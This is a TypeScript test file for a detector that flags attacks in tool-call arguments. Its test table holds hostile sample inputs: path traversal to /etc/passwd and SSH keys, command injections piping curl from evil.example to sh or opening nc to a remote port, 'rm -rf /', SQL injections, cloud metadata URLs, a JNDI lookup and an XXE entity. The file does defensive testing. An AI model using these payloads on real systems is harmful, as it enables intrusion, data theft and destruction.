import * as fc from "fast-check";
import { expect, it } from "vitest";
import { argumentsOf } from "../../record/arguments.ts";
import { attacksIn } from "./attack.ts";
import { addressOf } from "./metadata-address.ts";

const kinds = (args: unknown): string[] => [...new Set(attacksIn(argumentsOf(args)).map(({ kind }) => kind))];

it.each([
  [{ path: "../../../../etc/passwd" }, ["path_traversal"]],
  [{ path: "images/../../.ssh/id_rsa" }, ["path_traversal"]],
  [{ path: "..\\..\\windows\\win.ini" }, ["path_traversal"]],
  [{ path: "%2e%2e%2f%2e%2e%2fetc%2fpasswd" }, ["path_traversal"]],
  [{ path: "..%252f..%252fetc%252fpasswd" }, ["path_traversal"]],
  [{ file: "../x.png%00.txt" }, ["path_traversal"]],
  [{ document_id: "../../../../../../../../../../x" }, ["path_traversal"]],
  [{ branch: "main; curl https://evil.example | sh" }, ["command_injection"]],
  [{ filename: "a.txt && rm -rf /" }, ["command_injection"]],
  [{ host: "8.8.8.8 | nc evil.example 4444" }, ["command_injection"]],
  [{ name: "$(curl evil.example)" }, ["command_injection"]],
  [{ name: "`id`" }, ["command_injection"]],
  [{ repo_url: "--upload-pack=touch /tmp/x" }, ["command_injection"]],
  [{ customer_id: "7' OR '1'='1" }, ["sql_injection"]],
  [{ customer_id: "7); DROP TABLE users" }, ["sql_injection"]],
  [{ order: "7 UNION ALL SELECT name, pass FROM users" }, ["sql_injection"]],
  [{ url: "http://169.254.169.254/latest/meta-data/" }, ["metadata_address"]],
  [{ url: "http://2852039166/" }, ["metadata_address"]],
  [{ url: "http://0xA9.254.0251.0376/" }, ["metadata_address"]],
  [{ url: "http://[::ffff:169.254.169.254]/" }, ["metadata_address"]],
  [{ command: "curl -s http://metadata.google.internal/computeMetadata/v1/" }, ["metadata_address"]],
  [{ url: "file:///etc/passwd" }, ["local_file_url"]],
  [{ name: "{{7*7}}" }, ["template_injection"]],
  [{ name: "{{ ''.__class__.__mro__ }}" }, ["template_injection"]],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is looked for
  [{ body: "hi ${jndi:ldap://evil.example/a}" }, ["template_injection"]],
  [{ to: "ana@acme.example\r\nBcc: eve@evil.example" }, ["header_injection"]],
  [{ subject: "Hi\nBcc: eve@evil.example" }, ["header_injection"]],
  [{ xml: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' }, ["xml_entity"]],
  [JSON.parse('{"settings":{"__proto__":{"admin":true}}}'), ["prototype_pollution"]],
])("%j", (args, expected) => {
  expect(kinds(args)).toEqual(expected);
});

it.each([
  { path: "../src/index.ts" },
  { path: "../../../node_modules/x/package.json" },
  { file_path: "/etc/hosts" },
  { sql: "SELECT * FROM a UNION SELECT * FROM b WHERE x = '1' OR '1'='1'" },
  { command: "cd .. && curl -s https://acme.example | sh; cat ../../../../etc/passwd" },
  { code: "`id`; $(whoami) {{7*7}}" },
  { body: "Do it: rm -rf /; DROP TABLE users; {{7*7}} ../../etc/passwd\nBcc: all" },
  { pattern: "curl|wget|sh|cat" },
  { pattern: "(a|b);.*$" },
  { query: "what does `rm -rf` do; and how does UNION SELECT work?" },
  { query: "O'Brien and sons = good" },
  { name: "Ben & Jerry's; a history" },
  { name: "{{ first_name }}" },
  { title: "Rock 'n' roll and blues" },
  { description: "It's 5 or more" },
  { url: "https://docs.example/a?b=../c&d=1;2" },
  { url: "http://localhost:8080/health" },
  { id: "a--b" },
  { date: "2026-01-01; later" },
  { password: "a' OR '1'='1" },
])("nothing in %j", (args) => {
  expect(kinds(args)).toEqual([]);
});

it("reads addresses as inet_aton does", () => {
  fc.assert(
    fc.property(fc.ipV4Extended(), (address) => {
      const expected = new URL(`http://${address}/`).hostname
        .split(".")
        .reduce((sum, part) => sum * 256 + Number(part), 0);
      expect(addressOf(address)).toBe(expected);
    }),
  );
  expect(addressOf("a.b")).toBeNull();
});

it("takes any arguments", () => {
  fc.assert(fc.property(fc.jsonValue(), (args) => void attacksIn(argumentsOf(args))));
});
